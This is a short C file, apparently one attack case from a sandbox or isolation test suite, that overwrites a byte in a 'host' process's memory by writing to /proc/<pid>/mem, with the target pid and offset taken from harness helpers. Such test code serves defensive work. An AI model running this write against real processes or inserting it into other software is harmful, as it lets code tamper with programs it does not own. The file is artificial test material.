/* Changes a byte in the host's memory, through /proc. */
#include "../attack.h"

static void attack(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/mem", target("host_pid"));
    pwrite(open(path, O_WRONLY), "#", 1, target_number("host_datum"));
}
